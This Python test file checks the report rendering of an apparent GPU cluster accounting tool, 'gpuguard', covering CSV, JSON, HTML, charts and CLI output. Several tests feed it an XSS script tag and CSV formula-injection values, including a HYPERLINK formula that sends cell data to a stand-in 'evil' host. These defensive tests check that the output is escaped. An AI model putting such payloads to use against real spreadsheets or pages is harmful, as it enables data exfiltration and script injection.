"""Report output: CSV and JSON shapes, text, HTML escaping, charts seen by headless Chromium,
and the `gpuguard report ...` commands."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner
from reports_helpers import HANDMADE, cache_store, utc

from gpuguard.cli import main
from gpuguard.reports.queries import Rates, run_reports
from gpuguard.reports.render import csv_cell, duration, render
from gpuguard.reports.sync import import_file, import_text

SINCE, UNTIL = utc("2025-03-01T00:00:00"), utc("2025-04-01T00:00:00")
UTC = ZoneInfo("UTC")
GEN = utc("2025-04-01T08:00:00")
EVIL = "<script>alert(1)</script>"


@pytest.fixture
def cstore(tmp_path):
    yield from cache_store(tmp_path)


@pytest.fixture
def data(cstore):
    import_file(cstore, str(HANDMADE), tz=UTC, synced_at=utc("2025-03-31T12:00:00"))
    return cstore


def test_json_shape(data):
    reps = run_reports(data, ["cost", "wait"], since=SINCE, until=UNTIL, rates=Rates(gpu_hour_rate=1.0))
    doc = json.loads(render(reps, "json", UTC, GEN))
    assert (doc["generated_at"], doc["timezone"]) == ("2025-04-01T08:00:00+00:00", "UTC")
    assert [r["report"] for r in doc["reports"]] == ["cost", "wait"]
    cost = doc["reports"][0]
    assert (cost["since"], cost["until"], cost["since_epoch"], cost["by"]) == (
        "2025-03-01T00:00:00+00:00", "2025-04-01T00:00:00+00:00", SINCE, "account")
    t = cost["tables"][0]
    assert [c["key"] for c in t["columns"]] == ["group", "jobs", "gpu_hours", "cpu_hours", "gpu_cost", "cpu_cost",
                                                 "cost", "failed_cost", "timeout_cost", "node_fail_cost"]
    assert t["columns"][2] == {"key": "gpu_hours", "label": "GPU-h", "kind": "hours"}
    assert t["rows"][0] == {"group": "physics", "jobs": 5, "gpu_hours": 55.0, "cpu_hours": 214.0, "gpu_cost": 55.0,
                            "cpu_cost": 0.0, "cost": 55.0, "failed_cost": 5.0, "timeout_cost": 4.0,
                            "node_fail_cost": 0.0}
    assert t["total"]["group"] == "TOTAL" and t["total"]["gpu_hours"] == 69.75
    assert [x["name"] for x in doc["reports"][1]["tables"]] == ["wait", "pending", "longest_pending"]
    assert doc["reports"][1]["tables"][2]["rows"][0]["job_id"] == "110"


def test_csv_single_table_is_plain(data):
    reps = run_reports(data, ["failures"], since=SINCE, until=UNTIL)
    rows = list(csv.reader(io.StringIO(render(reps, "csv", UTC, GEN))))
    assert rows[0][:4] == ["group", "jobs", "COMPLETED_share", "FAILED_share"]
    assert [r[0] for r in rows[1:]] == ["bio", "physics", "chem", "TOTAL"]
    assert rows[2][:4] == ["physics", "4", "0.5", "0.25"]


def test_csv_several_tables_in_sections(data):
    reps = run_reports(data, ["wait"], since=SINCE, until=UNTIL)
    text = render(reps, "csv", UTC, GEN)
    sections = text.split("\n\n")
    assert [s.splitlines()[0] for s in sections if s.strip()] == ["# wait.wait", "# wait.pending",
                                                                 "# wait.longest_pending"]
    pend = list(csv.reader(io.StringIO(sections[1])))
    assert pend[1:] == [["group", "jobs", "not_eligible", "mean_current_s", "max_current_s"],
                        ["chem", "1", "1", "129600.0", "129600.0"], ["physics", "1", "0", "21600.0", "21600.0"]]



def test_csv_cell_prefixes_formulas_but_not_numbers():
    cells = ["=1+1", "+acct", "-2+3", "@SUM(1+1)", "\tx", "\rx", "-2", "+3.5", "-1e3", "-.5", "-", "-inf",
             "plain", "a=b", "", None, -2, -2.5, 0]
    assert [csv_cell(c) for c in cells] == [
        "'=1+1", "'+acct", "'-2+3", "'@SUM(1+1)", "'\tx", "'\rx", "-2", "+3.5", "-1e3", "-.5", "'-", "'-inf",
        "plain", "a=b", "", "", -2, -2.5, 0]


def test_csv_output_neutralises_formula_injection(cstore):
    head = "JobIDRaw|JobID|JobName|User|Account|State|Start|End|ElapsedRaw|AllocTRES|AllocCPUS\n"
    body = "".join(f"{i}|{i}|n|{user}|{acct}|COMPLETED|2025-03-02T00:00:00|2025-03-02T01:00:00|3600|"
                   f"cpu=1,gres/gpu=1|1\n" for i, user, acct in [
                       (1, '=HYPERLINK("http://evil/?"&A1;"click")', "@SUM(1+1)"),
                       (2, "+u", "-2+3"), (3, "-5", "ok")])
    assert import_text(cstore, head + body, tz=UTC).malformed == []
    for by, expect in [("account", ["'-2+3", "'@SUM(1+1)", "ok", "TOTAL"]),
                       ("user", ["'+u", "'=HYPERLINK(\"http://evil/?\"&A1;\"click\")", "-5", "TOTAL"])]:
        reps = run_reports(cstore, ["cost"], since=SINCE, until=UNTIL, by=by)
        rows = list(csv.reader(io.StringIO(render(reps, "csv", UTC, GEN))))
        assert [*sorted(r[0] for r in rows[1:-1]), rows[-1][0]] == expect
        assert [r[1:3] for r in rows[1:]] == [["1", "1.0"]] * 3 + [["3", "3.0"]]

def test_text(data):
    text = render(run_reports(data, ["cost"], since=SINCE, until=UNTIL), "text", UTC, GEN)
    lines = text.splitlines()
    assert lines[0] == "== Cost: 2025-03-01T00:00:00+00:00 .. 2025-04-01T00:00:00+00:00 (UTC) =="
    assert lines[3].split() == ["account", "jobs", "GPU-h", "CPU-h", "GPU", "cost", "CPU", "cost", "cost", "failed",
                                "timeout", "node", "fail"]
    assert lines[5].split()[:4] == ["physics", "5", "55.00", "214.00"]
    assert [duration(s) for s in (45, 750, 11100, 180000, None)] == ["45s", "12m30s", "3h05m", "2d02h", "-"]


def _evil_store(cstore):
    text = ("JobIDRaw|JobID|JobName|User|Account|Partition|State|Submit|Eligible|Start|End|ElapsedRaw|AllocTRES|Comment\n"
            f"1|1|{EVIL}|{EVIL}|{EVIL}|gpu|COMPLETED|2025-03-02T00:00:00|2025-03-02T00:00:00|2025-03-02T01:00:00|"
            f"2025-03-02T03:00:00|7200|cpu=1,gres/gpu=2|gpuguard:template=x <b>\n"
            "2|2|ok|bob|a$b$&co|gpu|FAILED|2025-03-02T00:00:00|2025-03-02T00:00:00|2025-03-02T00:30:00|"
            "2025-03-02T01:00:00|1800|cpu=1,gres/gpu=1|\n"
            "3|3|p|bob|a$b$&co|gpu|PENDING|2025-03-31T00:00:00|2025-03-31T00:00:00|Unknown|Unknown|0||\n")
    import_text(cstore, text, tz=UTC, synced_at=utc("2025-03-31T12:00:00"))
    return cstore


def test_html_escapes_user_controlled_names(cstore):
    store = _evil_store(cstore)
    html = render(run_reports(store, ["cost", "wait", "failures", "efficiency"], since=SINCE, until=UNTIL),
                  "html", UTC, GEN)
    assert "<script" not in html.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "a$b$&amp;co" in html  # '$' drawn as is (no mathtext), '&' escaped
    assert html.count("<svg") == 4  # one chart per report, inline
    # self-contained: nothing is fetched from anywhere
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:|//)|url\((?!#)|@import""", html)


def _chromium() -> str | None:
    for name in ("chromium", "chromium-browser", "google-chrome"):
        path = shutil.which(name)
        if path:
            return path
    return None


@pytest.mark.skipif(_chromium() is None and not os.environ.get("CI"),
                    reason="headless Chromium not installed (Debian package `chromium`; .ci/run installs it, "
                           "and with CI set this test runs and fails without it)")
def test_html_charts_render_in_headless_chromium(cstore, tmp_path):
    exe = _chromium()
    assert exe, "CI is set but chromium is not installed: .ci/run must apt-get install chromium"
    store = _evil_store(cstore)
    page = tmp_path / "report.html"
    page.write_text(render(run_reports(store, ["cost", "wait", "failures", "efficiency"], since=SINCE, until=UNTIL),
                           "html", UTC, GEN))
    flags = [exe, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
             "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage",
             f"--user-data-dir={tmp_path / 'profile'}"]
    dom = subprocess.run([*flags, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120)
    assert dom.returncode == 0, dom.stderr[-2000:]
    # the browser parsed the inline SVG charts into the DOM: 4 charts, with bars and text
    assert dom.stdout.count("<svg") == 4
    assert dom.stdout.count("<path") > 20
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom.stdout
    shot = tmp_path / "shot.png"
    cp = subprocess.run([*flags, f"--screenshot={shot}", "--window-size=1200,2400", page.as_uri()],
                        capture_output=True, text=True, timeout=120)
    assert cp.returncode == 0 and shot.exists(), cp.stderr[-2000:]
    from PIL import Image  # matplotlib depends on Pillow

    img = Image.open(shot).convert("RGB")
    assert img.size == (1200, 2400)
    colours = img.getcolors(maxcolors=1 << 20) or []
    assert len(colours) > 50  # text, table stripes, antialiased bars: far from a blank page
    # the bar colours of the charts are on screen
    present = {rgb for _n, rgb in colours}
    assert (0x1E, 0x88, 0xE5) in present  # cost chart bars / wait p90
    assert (0x4C, 0xAF, 0x50) in present or (0xE5, 0x39, 0x35) in present  # failure shares


# --- commands -------------------------------------------------------------------------------
def _env(tmp_path, extra: str = "") -> dict[str, str]:
    p = tmp_path / "gpuguard.toml"
    p.write_text(f'[paths]\nstore = "{tmp_path}/node.db"\n[reports]\ntimezone = "UTC"\ngpu_hour_rate = 2.0\n{extra}')
    return {"GPUGUARD_CONFIG": str(p)}


def test_cli_reports(tmp_path):
    env = _env(tmp_path)
    r = CliRunner().invoke(main, ["report", "cost", "--since", "2025-03-01"], env=env)
    assert (r.exit_code, r.output.strip()) == (2, f"Error: {tmp_path}/node.db: no cluster store yet; "
                                                  "run `gpuguard report sync` first")
    assert CliRunner().invoke(main, ["report", "sync", "--from-file", str(HANDMADE)], env=env).exit_code == 0
    r = CliRunner().invoke(main, ["report", "cost", "--since", "2025-03-01", "--until", "2025-04-01",
                                  "--format", "json"], env=env)
    assert r.exit_code == 0, r.output
    doc = json.loads(r.output)
    assert doc["reports"][0]["tables"][0]["total"]["gpu_cost"] == 139.5  # 69.75 GPU-h x 2.0
    out = tmp_path / "all.html"
    r = CliRunner().invoke(main, ["report", "all", "--since", "2025-03-01", "--until", "2025-04-01", "--by", "user",
                                  "--format", "html", "-o", str(out)], env=env)
    assert r.exit_code == 0 and r.output == f"wrote {out}\n"
    assert out.read_text().count("<section") == 4
    r = CliRunner().invoke(main, ["report", "wait", "--since", "last week"], env=env)
    assert r.exit_code == 2 and "'last week': expected YYYY-MM-DD" in r.output
    r = CliRunner().invoke(main, ["report", "wait", "--since", "2025-04-01", "--until", "2025-03-01"], env=env)
    assert (r.exit_code, r.output.strip()) == (2, "Error: empty window: --until must be after --since")
    r = CliRunner().invoke(main, ["report", "failures", "--by", "host"], env=env)
    assert r.exit_code == 2


def test_cli_bad_rate_config(tmp_path):
    env = _env(tmp_path, '[reports.gpu_hour_rates]\na100 = "cheap"\n')
    assert CliRunner().invoke(main, ["report", "sync", "--from-file", str(HANDMADE)], env=env).exit_code == 0
    r = CliRunner().invoke(main, ["report", "cost"], env=env)
    assert (r.exit_code, r.output.strip()) == (2, "Error: reports.gpu_hour_rates.a100 must be a number >= 0, "
                                                  "got 'cheap'")
